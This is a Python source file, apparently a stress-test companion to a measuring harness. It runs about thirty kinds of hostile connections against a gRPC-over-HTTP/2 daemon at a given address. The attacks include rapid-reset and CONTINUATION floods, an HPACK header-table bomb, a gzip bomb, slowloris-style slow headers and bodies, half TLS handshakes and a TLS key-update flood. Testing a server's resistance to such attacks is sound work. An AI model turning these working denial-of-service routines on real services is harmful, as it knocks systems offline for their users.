"""What hostile peers do to a daemon: a table of kinds, each a function of one connection.

Run as a program, beside the harness that measures: hostile_peers.py KIND SECONDS ADDRESS [CA [TOKEN]]
"""
import contextlib
import ctypes
import dataclasses
import functools
import gzip
import os
import resource
import socket
import sys
import threading
import time

from http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE,
                   PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, Peer, frame, setting, text,
                   upload_of, whole)
from waiting import turns, wait_for_clock

EMPTY_MESSAGE = bytes(5)
CANCEL = (8).to_bytes(4, "big")
REQUEST = 2_000_000  # the server takes little more
UPLOAD = 63_000_000


def reset(method):
    def assault(peer):
        content = b""
        for _ in range(200):
            stream = peer.new_stream()
            content += (frame(HEADERS, END_HEADERS, stream, peer.headers(method)) +
                        frame(DATA, END_STREAM, stream, EMPTY_MESSAGE) +
                        frame(RST_STREAM, 0, stream, CANCEL))
        peer.send(content)
    return assault


def continuation_flood(peer):
    peer.send(frame(HEADERS, 0, peer.new_stream(), peer.headers("ListJobs")))
    header = b"\x00" + text("x-filling") + text("y" * 16000)
    while True:
        peer.send(frame(CONTINUATION, 0, peer.next_stream - 2, header))


def table_bomb(peer):
    """A header of 4,000 bytes goes into the table, then stands for itself 16,000 times a frame."""
    if not peer.indexed:
        peer.begin("ListJobs", ("x-filling", "y" * 3900))
    one = peer.header("x-filling", "y" * 3900)
    peer.send(frame(HEADERS, END_HEADERS, peer.new_stream(), peer.headers("ListJobs") + one * 12000))


def flood(content):
    def assault(peer):
        peer.send(content * 1000)
    return assault


def in_a_call(content_of, method="SubmitJob"):
    """Begins a call, then sends what belongs to it without end."""
    def assault(peer):
        stream = peer.begin(method)
        while True:
            peer.send(content_of(stream) * 1000)
    return assault


def large_answers(peer):
    """200 calls whose answers have no window; then the next connection."""
    for _ in range(200):
        stream = peer.begin("ListAlloys")
        peer.send(frame(DATA, END_STREAM, stream, EMPTY_MESSAGE))
    peer.receive(0.5)
    raise ConnectionError


def watches(peer):
    stream = peer.begin("WatchJob")
    job = os.environ["HOSTILE_JOB"].encode()
    request = b"\x0a" + whole(len(job), 7) + job
    peer.send(frame(DATA, END_STREAM, stream, len(request).to_bytes(5, "big") + request))
    peer.receive(0.01)


def slow_headers(peer):
    block = peer.headers("SubmitJob")
    for byte in frame(HEADERS, END_HEADERS, peer.new_stream(), block):
        peer.send(bytes([byte]))
        peer.receive(0.2)


def slow_body(peer):
    """As many calls as may be open, each with a byte now and then of a message of 2 MB."""
    streams = [peer.begin("SubmitJob") for _ in range(30)]
    for stream in streams:
        peer.send(frame(DATA, 0, stream, b"\0" + REQUEST.to_bytes(4, "big")))
    while True:
        for stream in streams:
            peer.send(frame(DATA, 0, stream, b"x"))
        peer.receive(0.1)


def unfinished_request(peer):
    for _ in range(10):
        peer.send_most_of_a_message(peer.begin("SubmitJob"), REQUEST)
    silent(peer)


@functools.cache
def most_of_an_upload():
    return upload_of(UPLOAD)[:-1]


def unfinished_upload(peer):
    peer.send_what_fits(peer.begin("UploadAttachment"), most_of_an_upload())
    silent(peer)


def unbegun_calls(peer):
    peer.send(b"".join(frame(DATA, 0, 2 * call + 1, b"x") for call in range(2000)))
    peer.receive(0.05)


def unfinished_enrolment(peer):
    """A call that takes no token."""
    peer.send_most_of_a_message(peer.begin("Enrol"), REQUEST)
    silent(peer)


BOMB = gzip.compress(bytes(1 << 20), 9) * 8000  # 8.5 MB of members that stand for 8 GB


def gzip_bomb(peer):
    stream = peer.begin("SubmitJob", ("grpc-encoding", "gzip"))
    peer.send_most_of_a_message(stream, len(BOMB), compressed=1, content=BOMB)
    peer.send(frame(DATA, END_STREAM, stream))
    peer.receive(1.0)


def open_calls(peer):
    peer.receive(0.2)
    while True:
        peer.send(b"".join(frame(HEADERS, END_HEADERS, peer.new_stream(), peer.headers("ListJobs"))
                           for _ in range(100 if peer.acknowledges else 1000)))
        if peer.acknowledges:
            silent(peer)


def many_calls(peer):
    for _ in range(500):
        stream = peer.new_stream()
        peer.send(frame(HEADERS, END_HEADERS, stream, peer.headers("ListJobs")) +
                  frame(DATA, END_STREAM, stream, EMPTY_MESSAGE))


def silent(peer):
    while True:
        peer.receive(1.0)


def begins_a_handshake(peer):
    """The beginning of a ClientHello, of a length that never comes."""
    peer.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
    silent(peer)


def renews_keys(peer):
    """KeyUpdates of TLS 1.3, of which Python's ssl has none: OpenSSL sends them over a bare socket."""
    openssl = ctypes.CDLL("libssl.so.3")
    for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
        getattr(openssl, name).restype = ctypes.c_void_p
    context = ctypes.c_void_p(openssl.SSL_CTX_new(ctypes.c_void_p(openssl.TLS_client_method())))
    session = ctypes.c_void_p(openssl.SSL_new(context))
    try:
        peer.socket.setblocking(True)
        openssl.SSL_set_fd(session, peer.socket.fileno())
        openssl.SSL_set_alpn_protos(session, b"\x02h2", 3)
        if openssl.SSL_connect(session) != 1:
            raise ConnectionError
        while openssl.SSL_key_update(session, 0) == 1 and openssl.SSL_do_handshake(session) == 1:
            pass
    finally:
        openssl.SSL_free(session)
        openssl.SSL_CTX_free(context)
    raise ConnectionError


@functools.cache
def greeting_in_pieces():
    """A ClientHello of 131 kB, of which each record of TLS brings one byte."""
    message = b"\x01\x01\xff\xb4" + bytes(130_996)
    return b"".join(b"\x16\x03\x01\x00\x01" + bytes([byte]) for byte in message)


def handshake_in_pieces(peer):
    peer.send(greeting_in_pieces())
    silent(peer)


def made_requests(peer):
    """A connection that is not silent: it has asked before."""
    for _ in range(10):
        peer.send(frame(DATA, END_STREAM, peer.begin("ListJobs"), EMPTY_MESSAGE))
    silent(peer)


def another_protocol(peer):
    peer.send(b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X: y\r\n" * 10000)


def made_you_reset(peer):
    """Windows that overflow, so that it is the server that takes the calls back."""
    content = b""
    for _ in range(200):
        stream = peer.new_stream()
        content += (frame(HEADERS, END_HEADERS, stream, peer.headers("ListJobs")) +
                    frame(DATA, END_STREAM, stream, EMPTY_MESSAGE) +
                    frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff"))
    peer.send(content)


@dataclasses.dataclass
class Kind:
    says: str
    assault: object       # again and again, until its connection ends
    connections: int = 4
    settings: bytes = b""
    greets: bool = True   # with the preface of HTTP/2, after the handshake
    raw: bool = False     # before the handshake of TLS
    acknowledges: bool = True  # the settings of the server, which bind it from then on


NO_WINDOW = setting(INITIAL_WINDOW_SIZE, 0)
KINDS = {
    "RapidResetOfLists": Kind("ListJobs begun and taken back without end", reset("ListJobs")),
    "RapidResetOfWatches": Kind("WatchJob begun and taken back without end", reset("WatchJob")),
    "ServerResets": Kind("calls with frames for which the server takes them back", made_you_reset),
    "ContinuationFlood": Kind("headers that never end", continuation_flood),
    "HeaderTableBomb": Kind("headers of 12 kB that stand for 47 MB", table_bomb),
    "PingFlood": Kind("pings without end", flood(frame(PING, 0, 0, bytes(8)))),
    "PriorityFlood": Kind("priorities of calls without end", flood(frame(PRIORITY, 0, 1, bytes(5)))),
    "SettingsFlood": Kind("settings without end", flood(frame(SETTINGS, 0, 0, setting(4, 70000)))),
    "SettingsAcknowledgements": Kind("acknowledgements of settings that were not sent",
                                     flood(frame(SETTINGS, ACK, 0))),
    "EmptyFrames": Kind("empty frames of a request without end",
                        in_a_call(lambda stream: frame(DATA, 0, stream))),
    "WindowUpdates": Kind("updates of windows without end", in_a_call(
        lambda stream: frame(WINDOW_UPDATE, 0, stream, (1).to_bytes(4, "big")))),
    "UnreadAnswers": Kind("large answers that are not read, of 200 calls a connection",
                          large_answers, 20, NO_WINDOW),
    "UnreadWatches": Kind("watches that are not read", watches, 20, NO_WINDOW),
    "OpenCalls": Kind("calls that are begun and not ended, as many as may be", open_calls, 90),
    "OpenCallsWithoutBound": Kind("more open calls, the bound not acknowledged", open_calls, 20,
                                  acknowledges=False),
    "ServedCallsWithoutBound": Kind("requests without end, whose answers are not read", many_calls, 20,
                                    NO_WINDOW, acknowledges=False),
    "SlowHeaders": Kind("headers byte by byte, on 90 connections", slow_headers, 90),
    "SlowBodies": Kind("bodies byte by byte, on 40 connections", slow_body, 40),
    "UnfinishedUploads": Kind("40 uploads of 63 MB that lack their last byte", unfinished_upload, 40),
    "UnfinishedRequests": Kind("400 requests of 2 MB that lack their last byte, on 40 connections",
                               unfinished_request, 40),
    "UnbegunCalls": Kind("single bytes of calls that were never begun, on 95 connections",
                         unbegun_calls, 95),
    "UnfinishedEnrolments": Kind("40 enrolments of 2 MB that lack their last byte",
                                 unfinished_enrolment, 40),
    "GzipBombs": Kind("8.5 MB of gzip that stand for 8 GB", gzip_bomb, 8),
    "SilentPeers": Kind("1,000 connections that send nothing", silent, 1000, greets=False, raw=True),
    "HalfHandshakes": Kind("1,000 connections that begin a handshake", begins_a_handshake, 1000,
                           greets=False, raw=True),
    "KeyUpdates": Kind("renewals of the keys of TLS without end", renews_keys, greets=False, raw=True),
    "HandshakesInPieces": Kind("handshakes of 131 kB in records of one byte", handshake_in_pieces, 20,
                               greets=False, raw=True),
    "BusyPeers": Kind("900 connections of one user or machine, each with requests", made_requests, 900),
    "AnotherProtocol": Kind("HTTP/1.1 and what follows it", another_protocol, greets=False),
}


def keep_on(kind, end, address, ca, token):
    for _ in turns(end - time.monotonic(), 0.01):
        with contextlib.suppress(OSError):
            with contextlib.closing(Peer(address, None if kind.raw else ca, token, kind.settings,
                                         kind.greets, kind.acknowledges)) as peer:
                while time.monotonic() < end:
                    kind.assault(peer)


def main():
    name, seconds, address, *shown = sys.argv[1:]
    ca, token = (*shown, None, "")[:2] if len(shown) < 2 else shown
    resource.setrlimit(resource.RLIMIT_NOFILE, (8192, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    kind = KINDS[name]
    end = time.monotonic() + float(seconds)
    for _ in range(kind.connections):
        threading.Thread(target=keep_on, args=(kind, end, address, ca, token or ""),
                         daemon=True).start()
    wait_for_clock(end)


if __name__ == "__main__":
    main()
